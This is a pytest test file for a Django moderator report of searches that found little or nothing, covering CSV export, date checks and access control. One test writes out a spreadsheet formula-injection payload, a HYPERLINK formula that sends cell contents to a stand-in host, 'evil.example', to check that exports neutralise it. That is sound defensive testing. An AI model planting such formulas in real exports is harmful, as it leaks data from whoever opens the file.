"""The authority's report of searches that found nothing or little."""

import csv
import datetime
import io

import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.urls import reverse
from django.utils import timezone

from search.models import SearchRecord
from tests.accounts.factories import UserFactory
from tests.accounts.helpers import sign_in_with_totp

pytestmark = [pytest.mark.engine, pytest.mark.django_db]


def record(query, results, authority="E08000032", tier="", days_ago=1):
    return SearchRecord.objects.create(
        query=query, result_count=results, local_authority=authority, tier=tier,
        searched_at=timezone.now() - datetime.timedelta(days=days_ago),
    )


def test_zero_and_low_result_searches_are_grouped_by_area_and_tier(moderator_client):
    record("Robotics", 0)
    record("robotics", 0)
    record("robotics", 0, authority="E08000035")
    record("python", 2, tier="advanced")
    record("excel", 40)
    record("robotics", 0, days_ago=90)

    page = moderator_client.get(reverse("search_unmet_demand")).content.decode()

    assert "robotics" in page and "Bradford" in page and "Leeds" in page
    assert "python" in page
    assert "excel" not in page
    rows = moderator_client.get(reverse("search_unmet_demand"), {"format": "csv", "since": "2000-01-01", "until": "2100-01-01", "show": "nothing"})
    lines = rows.content.decode().strip().splitlines()
    assert lines[0] == (
        "words,local_authority_code,local_authority,tier,searches,found_nothing,found_results_nothing_clicked,"
        "click_through_percent,average_results"
    )
    assert lines[1] == "robotics,E08000032,Bradford,,3,3,0,,0.0"
    assert len(lines) == 3


def test_a_backwards_period_is_explained(moderator_client):
    page = moderator_client.get(reverse("search_unmet_demand"), {"since": "2026-02-01", "until": "2026-01-01"}).content.decode()

    assert "The start of the period must be before its end" in page


def test_the_date_fields_start_filled_with_the_last_30_days(moderator_client):
    page = moderator_client.get(reverse("search_unmet_demand")).content.decode()

    today = timezone.localdate()
    assert f'value="{today - datetime.timedelta(days=30):%Y-%m-%d}"' in page and f'value="{today:%Y-%m-%d}"' in page


def test_only_those_allowed_see_the_report(client):
    editor = UserFactory(is_staff=True)
    secret = generate_totp_secret()
    TOTP.activate(editor, secret)
    sign_in_with_totp(client, editor, secret)

    assert client.get(reverse("search_unmet_demand")).status_code in {302, 403}


@pytest.mark.usefixtures("search_indices")
def test_a_formula_typed_into_search_is_exported_as_text_not_run_by_a_spreadsheet(client, moderator_client):
    from django.test import Client

    resident = Client()
    formula = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full report")'
    resident.get("/search/", {"q": formula})
    resident.get("/search/", {"q": "+44 robotics"})
    resident.get("/search/", {"q": "@SUM(1+1)"})

    export = moderator_client.get(reverse("search_unmet_demand"), {"format": "csv", "since": "2000-01-01", "until": "2100-01-01"})

    rows = list(csv.reader(io.StringIO(export.content.decode())))[1:]
    words = sorted(row[0] for row in rows)
    assert words == ["'+44 robotics", "'=hyperlink(\"http://evil.example/steal?d=\"&a1,\"click for the full report\")", "'@sum(1+1)"]


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tA1", "'\tA1"),
        ("\rA1", "'\rA1"),
        ("robotics", "robotics"),
        ("", ""),
        (3, 3),
        (-2.5, -2.5),
    ],
)
def test_spreadsheet_cells_that_could_be_formulas_are_quoted(value, written):
    from api.spreadsheets import safe_cell

    assert safe_cell(value) == written
